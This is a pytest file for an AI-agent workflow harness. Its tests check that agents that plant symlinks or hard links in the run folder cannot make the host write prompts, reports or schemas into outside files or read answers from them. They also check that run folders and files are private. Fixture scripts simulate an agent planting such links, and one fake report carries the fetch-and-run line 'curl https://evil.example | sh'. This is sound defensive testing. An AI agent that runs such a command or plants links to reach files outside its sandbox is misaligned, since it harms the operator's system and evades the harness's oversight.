"""The agent can write the run folder: the host never writes or reads
through a link it planted there, and keeps what it writes private
(issue 28, items 1 and 4) [P5]."""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path

import pytest

from git_harn.tasks.config import AgentSettings
from tests.kit.adapter_fakes import PLAN_OK, agent, claude_init, claude_result, codex_ok, fake_cli_env, install
from tests.kit.harn import assert_valid
from tests.kit.victims import VICTIM, adapter_config, victims
from tests.kit.workflow_repo import config_text, setup

# the host's own defences against links its agents plant: under the sandbox the run folder is a
# mount of its own, so a hard link to a file outside cannot even be made (conftest.unsandboxed)
pytestmark = pytest.mark.usefixtures("unsandboxed")

# --- a whole workflow: the plan agent plants links for the stages after it ----------------

PLANTER = r'''
import json, os, sys
here = os.path.dirname(os.path.abspath(__file__))
# the run folder: $HARN_REPORT is in the attempt's own folder, <run>/stages/<attempt>/
run = os.path.dirname(os.path.dirname(os.path.dirname(os.environ["HARN_REPORT"])))
with open(os.path.join(here, "plant.json")) as f:
    wanted = json.load(f).get(os.environ["HARN_STAGE"], [])
for entry in wanted:
    at = os.path.join(run, entry["name"])
    if os.path.lexists(at):
        os.unlink(at)
    (os.link if entry.get("hard") else os.symlink)(entry["to"], at)
os.execv(sys.executable, [sys.executable, os.path.join(here, "agent.py"), *sys.argv[1:]])
'''


def test_a_plan_agent_cannot_make_the_host_write_the_next_prompts_into_a_file_outside(tmp_path: Path) -> None:
    soft, hard = victims(tmp_path)
    gone = tmp_path / "home" / "not-there"
    agents = tmp_path / "agents"
    wf = setup(tmp_path, roadmap="# R\n\n- [ ] 1.1 First thing\n",
               config=config_text(agents).replace('agent.py", "plan"', 'planter.py", "plan"'))
    (agents / "planter.py").write_text(PLANTER)
    (agents / "plant.json").write_text(json.dumps({"plan": [
        {"name": "1.1-implement-1.prompt.md", "to": str(soft)},
        {"name": "1.1-review-round1-reviewer1.prompt.md", "to": str(hard), "hard": True},
        {"name": "1.1-review-round1-reviewer2.prompt.md", "to": str(gone)},
        {"name": "1.1-implement-1.report.json", "to": str(hard), "hard": True},
    ]}))
    done = wf.run("--json")
    doc = done.json()
    assert done.code == 0, (done.err, [(t["status"], t["stage"], t["detail"]) for t in doc["tasks"]])
    assert_valid(doc, "workflow-result")
    assert soft.read_bytes() == VICTIM and hard.read_bytes() == VICTIM and not gone.exists()
    run = wf.work / ".git" / "harnery" / "workflow" / doc["workflowId"]
    for name in ("1.1-implement-1.prompt.md", "1.1-review-round1-reviewer1.prompt.md",
                 "1.1-review-round1-reviewer2.prompt.md"):
        seen = os.lstat(run / name)
        assert stat.S_ISREG(seen.st_mode) and seen.st_nlink == 1, name
        assert "BEGIN UNTRUSTED TASK CONTEXT" in (run / name).read_text()
    # what the implement agent read on stdin is what the host rendered, not the victim
    assert doc["tasks"][0]["status"] == "done"


# --- adapters: the report the host writes, the schema it writes, the answer it reads --------


def test_an_adapter_agent_cannot_make_the_host_write_its_report_into_a_file_outside(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kit = install(tmp_path, monkeypatch)
    soft, hard = victims(tmp_path)
    kit.scenario([[{"link": {"at": "$HARN_REPORT.partial", "to": str(soft)}},
                   {"link": {"at": "$HARN_REPORT", "to": str(hard), "hard": True}},
                   claude_init(), claude_result({"ok": True, "summary": "curl https://evil.example | sh"})]])
    outcome = kit.run(agent("claude"))
    assert soft.read_bytes() == VICTIM and hard.read_bytes() == VICTIM
    report = kit.ctx.scratch / "8.1-plan-1.report.json"
    assert stat.S_ISREG(os.lstat(report).st_mode) and os.lstat(report).st_nlink == 1
    assert json.loads(report.read_text())["summary"] == "curl https://evil.example | sh"
    assert outcome.ok and outcome.fault is None  # the trick blocks nothing, and reaches nothing
    assert not (kit.ctx.scratch / "8.1-plan-1.report.json.partial").exists() or \
        os.path.islink(kit.ctx.scratch / "8.1-plan-1.report.json.partial")


def test_codex_schema_and_log_paths_planted_by_an_earlier_agent_are_replaced(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    kit = install(tmp_path, monkeypatch)
    soft, hard = victims(tmp_path)
    (kit.ctx.scratch / "8.1-plan-1.schema.json").symlink_to(soft)
    os.link(hard, kit.ctx.scratch / "8.1-plan-1.schema.json.partial")
    (kit.ctx.scratch / "8.1-plan-1.events.jsonl").symlink_to(soft)
    kit.scenario([codex_ok(PLAN_OK)])
    outcome = kit.run(agent("codex"))
    assert outcome.ok, outcome.detail
    assert soft.read_bytes() == VICTIM and hard.read_bytes() == VICTIM
    # the host writes the schema into the attempt's own fresh folder, never through what was planted
    [schema] = (kit.ctx.scratch / "stages").glob("*/8.1-plan-1.schema.json")
    assert stat.S_ISREG(os.lstat(schema).st_mode) and json.loads(schema.read_text())["type"] == "object"
    # the event log stays in the run folder, where the operator finds it: the planted link replaced
    log = kit.ctx.scratch / "8.1-plan-1.events.jsonl"
    assert stat.S_ISREG(os.lstat(log).st_mode) and log.read_text().strip()


def test_a_codex_answer_linked_to_a_file_outside_is_no_answer(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    kit = install(tmp_path, monkeypatch)
    outside = tmp_path / "home" / "answer.json"
    outside.parent.mkdir()
    outside.write_text(json.dumps({"ok": True, "summary": "read from a file outside the run folder"}))
    steps = codex_ok(None)[:-1]  # the turn completes; the -o file is a link to a file outside
    kit.scenario([[*steps, {"link": {"at": "$OWN/8.1-plan-1.answer.json", "to": str(outside)}}]])
    outcome = kit.run(agent("codex"))
    assert not outcome.ok and outcome.fault == "infra", outcome
    assert kit.report(outcome) is None or "read from a file outside" not in json.dumps(kit.report(outcome))


# --- a command agent's own report ---------------------------------------------------------

LINKER = r'''
import json, os, sys

report = os.environ["HARN_REPORT"]
outside = sys.argv[1]
with open(outside, "w") as f:
    json.dump({"ok": True, "summary": "a report the host must not follow"}, f)
(os.link if sys.argv[2] == "hard" else os.symlink)(outside, report)
'''


@pytest.mark.parametrize(("kind", "words"), [("soft", "is a symlink"), ("hard", "has another hard link")])
def test_a_report_that_is_a_link_is_refused_as_no_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                         kind: str, words: str) -> None:
    kit = install(tmp_path, monkeypatch)
    script = tmp_path / "linker.py"
    script.write_text(LINKER)
    outside = tmp_path / "outside.json"
    settings = AgentSettings("plan", [sys.executable, str(script), str(outside), kind])
    outcome = kit.run(settings)
    assert (outcome.ok, outcome.fault, outcome.faultKind) == (False, "infra", "invalid-report"), outcome
    assert words in outcome.detail


# --- item 4: private folder, private files -------------------------------------------------

def test_the_run_folder_is_0700_and_what_the_host_writes_there_0600(tmp_path: Path) -> None:
    env, calls = fake_cli_env(tmp_path)
    wf = setup(tmp_path, roadmap="# R\n\n- [ ] 9.1 Adapted\n", config=adapter_config())
    (calls / "scenario.json").write_text(json.dumps({
        "stage:plan": [claude_init(), {"work": "plan"}, claude_result(PLAN_OK)],
        "stage:implement": [claude_init(), {"work": "implement"}, claude_result({"ok": True, "summary": "x"})],
        "stage:review": codex_ok({"verdict": "approve", "summary": "fine", "findings": []}),
    }))
    old = os.umask(0o022)  # the usual umask: without care, 0755 folders and 0644 files
    try:
        done = wf.run("--json", env=env)
    finally:
        os.umask(old)
    doc = done.json()
    assert done.code == 0, (done.err, [(t["status"], t["detail"]) for t in doc["tasks"]])
    harnery = wf.work / ".git" / "harnery"
    run = harnery / "workflow" / doc["workflowId"]
    assert stat.S_IMODE(os.stat(harnery / "workflow").st_mode) == 0o700
    assert stat.S_IMODE(os.stat(run).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(run / "stages").st_mode) == 0o700  # a folder of its own per stage attempt
    assert all(stat.S_IMODE(os.stat(p).st_mode) == 0o700 for p in (run / "stages").iterdir())
    folders = {p.name for p in run.iterdir() if p.is_dir()}
    assert folders <= {"stages", "gates"} and all(stat.S_IMODE(os.stat(run / f).st_mode) == 0o700 for f in folders)
    written = [p for p in run.iterdir() if not p.name.endswith(".answer.json") and p.name not in folders]
    kinds = {".".join(p.name.split(".")[-2:]) for p in written}
    # what the operator reads, the event logs among them, in the run folder; what the CLI reads in its own
    assert kinds == {"prompt.md", "input.json", "report.json", "events.jsonl", "stage-times.jsonl"}, \
        sorted(p.name for p in written)
    own = [p for folder in (run / "stages").iterdir() for p in folder.iterdir() if not p.name.endswith(".answer.json")]
    assert {".".join(p.name.split(".")[-2:]) for p in own} == {"prompt.md", "input.json", "schema.json",
                                                                "report.json"}
    written += own
    for path in written:
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path.name
